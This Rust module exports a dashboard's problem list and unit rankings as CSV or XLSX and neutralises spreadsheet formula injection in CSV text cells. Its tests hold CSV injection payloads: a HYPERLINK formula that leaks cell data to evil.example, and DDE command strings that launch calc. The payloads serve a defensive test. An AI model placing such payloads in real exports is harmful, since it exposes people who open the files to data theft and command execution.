//! Tables the dashboard shows and exports: the problem list and the monthly ranking (考核), written
//! as CSV (UTF-8 with a BOM, so that Excel reads Chinese correctly) or XLSX. Plain data: the pages
//! render a [`Table`] as HTML (`pages::table`), this module writes no markup.

use super::overview::RankLine;
use crate::storage::ProblemRow;
use crate::sync::directory::Snapshot;
use zhuqi_core::domain::text::date_of;

#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

/// A table with a header row.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Table {
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// A text cell as CSV may carry it: one starting like a formula (`=`, `+`, `-`, `@`, a tab or a
/// carriage return), which Excel and WPS would run when the file is opened, gets a leading `'`, so it
/// shows as the text it is (OWASP's advice on CSV injection). Number cells are not text: they stay
/// numbers, negative ones included.
pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}").into(),
        _ => s.into(),
    }
}

/// CSV, UTF-8 with a byte-order mark. Text cells are neutralised ([`csv_text`]); the XLSX export
/// needs no such care, since it writes text as string cells, never as formulas.
pub fn csv_bytes(t: &Table) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    let _ = w.write_record(t.headers.iter().map(|h| csv_text(h).into_owned()));
    let mut out = w.into_inner().unwrap_or_default();
    out.extend(csv_rows(t));
    out
}

/// The rows of `t` as CSV, without the header (a page of a longer file).
pub fn csv_rows(t: &Table) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for row in &t.rows {
        let cells: Vec<String> = row
            .iter()
            .map(|c| match c {
                Cell::Text(s) => csv_text(s).into_owned(),
                Cell::Number(n) => format!("{n}"),
                Cell::Empty => String::new(),
            })
            .collect();
        let _ = w.write_record(&cells);
    }
    w.into_inner().unwrap_or_default()
}

/// Writes `t`'s rows (and its header first, with `header`) into `sheet` from row `first`; returns
/// the row after the last written.
pub fn write_rows(
    sheet: &mut rust_xlsxwriter::Worksheet,
    first: u32,
    t: &Table,
    header: bool,
) -> Result<u32, rust_xlsxwriter::XlsxError> {
    let mut r = first;
    if header {
        let bold = rust_xlsxwriter::Format::new().set_bold();
        for (c, h) in t.headers.iter().enumerate() {
            sheet.write_string_with_format(r, c as u16, h, &bold)?;
        }
        r += 1;
    }
    for row in &t.rows {
        for (c, cell) in row.iter().enumerate() {
            match cell {
                Cell::Text(s) => sheet.write_string(r, c as u16, s)?,
                Cell::Number(n) => sheet.write_number(r, c as u16, *n)?,
                Cell::Empty => sheet,
            };
        }
        r += 1;
    }
    Ok(r)
}

/// An XLSX workbook with one sheet per table.
pub fn xlsx_bytes(sheets: &[(&str, &Table)]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut book = rust_xlsxwriter::Workbook::new();
    for (name, t) in sheets {
        let sheet = book.add_worksheet();
        sheet.set_name(*name)?;
        write_rows(sheet, 0, t, true)?;
    }
    book.save_to_buffer()
}

fn text(s: impl Into<String>) -> Cell {
    Cell::Text(s.into())
}

fn rate(x: Option<f64>) -> Cell {
    x.map_or(Cell::Empty, |v| Cell::Number((v * 1000.0).round() / 10.0))
}

/// The problem list as a table.
pub fn problems_table(rows: &[ProblemRow], dir: &Snapshot, now: i64) -> Table {
    let headers = [
        "编号",
        "问题",
        "企业",
        "地区",
        "类别",
        "状态",
        "层级",
        "责任单位",
        "上报日期",
        "办理时限",
        "是否超期",
        "办结日期",
        "满意度",
        "催办次数",
    ];
    Table {
        headers: headers.iter().map(|h| h.to_string()).collect(),
        rows: rows
            .iter()
            .map(|p| {
                let overdue = p.is_overdue(now);
                vec![
                    text(&p.id),
                    text(&p.title),
                    text(&p.enterprise_name),
                    text(super::units::full_name(dir, &p.region_id)),
                    text(zhuqi_core::domain::Category::parse(&p.category).map_or("其他", |c| c.zh())),
                    text(zhuqi_core::domain::ProblemStatus::parse(&p.status).map_or("未知", |s| s.zh())),
                    Cell::Number(f64::from(p.level)),
                    p.department_id
                        .as_deref()
                        .and_then(|d| dir.departments.get(d))
                        .map_or(Cell::Empty, |d| text(&d.name)),
                    text(date_of(p.reported_at)),
                    p.deadline.map_or(Cell::Empty, |d| text(date_of(d))),
                    text(if overdue { "是" } else { "否" }),
                    p.resolved_at.map_or(Cell::Empty, |d| text(date_of(d))),
                    p.rating.map_or(Cell::Empty, |r| Cell::Number(f64::from(r))),
                    Cell::Number(f64::from(p.urge_count)),
                ]
            })
            .collect(),
    }
}

/// A ranking as a table; a unit whose figures changed after they were published shows the score and
/// rank counted now beside those published (更正).
pub fn ranking_table(rows: &[RankLine]) -> Table {
    let headers = [
        "排名",
        "单位",
        "得分",
        "上期排名",
        "更正后得分",
        "更正后排名",
        "上报",
        "企业自报",
        "办结",
        "解决率%",
        "按期率%",
        "满意率%",
        "平均评分",
        "提级督办",
        "走访次数",
        "走访覆盖率%",
    ];
    Table {
        headers: headers.iter().map(|h| h.to_string()).collect(),
        rows: rows
            .iter()
            .map(|RankLine { name, ranked: r, correction }| {
                let f = &r.figures;
                vec![
                    Cell::Number(f64::from(r.rank)),
                    text(name),
                    Cell::Number((r.score * 10.0).round() / 10.0),
                    r.last_rank.map_or(Cell::Empty, |x| Cell::Number(f64::from(x))),
                    correction.map_or(Cell::Empty, |(s, _)| Cell::Number((s * 10.0).round() / 10.0)),
                    correction.map_or(Cell::Empty, |(_, k)| Cell::Number(f64::from(k))),
                    Cell::Number(f64::from(f.reported)),
                    Cell::Number(f64::from(f.reported_by_enterprise)),
                    Cell::Number(f64::from(f.resolved)),
                    rate(f.resolution_rate),
                    rate(f.on_time_rate),
                    rate(f.satisfaction_rate),
                    f.average_rating.map_or(Cell::Empty, |a| Cell::Number((a * 100.0).round() / 100.0)),
                    Cell::Number(f64::from(f.escalated)),
                    Cell::Number(f64::from(f.visits)),
                    rate(f.visit_coverage),
                ]
            })
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        r.records().map(|rec| rec.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn csv_neutralises_formula_leading_text() {
        let attacks = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        let t = Table {
            headers: vec!["问题".into(), "得分".into()],
            rows: attacks.iter().map(|a| vec![Cell::Text((*a).into()), Cell::Number(-3.5)]).collect(),
        };
        let rows = read_back(&csv_bytes(&t));
        assert_eq!(rows[0], ["问题", "得分"]);
        for (row, attack) in rows[1..].iter().zip(attacks) {
            assert_eq!(row[0], format!("'{attack}"));
            // The report's own negative numbers stay numbers.
            assert_eq!(row[1], "-3.5");
        }
    }

    #[test]
    fn csv_keeps_ordinary_text_as_is() {
        let texts = ["郑州精工机械有限公司", "2024-03-01", "'quoted", " =spaced", "a=b", "", "1-2"];
        let t = Table {
            headers: vec!["x".into()],
            rows: texts.iter().map(|x| vec![Cell::Text((*x).into())]).chain([vec![Cell::Empty]]).collect(),
        };
        let rows = read_back(&csv_bytes(&t));
        for (row, text) in rows[1..].iter().zip(texts) {
            assert_eq!(row[0], text);
        }
        assert_eq!(rows.last().unwrap()[0], "");
    }

    #[test]
    fn csv_text_only_touches_the_first_character() {
        assert_eq!(csv_text("=1"), "'=1");
        assert_eq!(csv_text("x=1"), "x=1");
        assert_eq!(csv_text("＝1"), "＝1");
        assert!(matches!(csv_text("plain"), std::borrow::Cow::Borrowed(_)));
    }
}
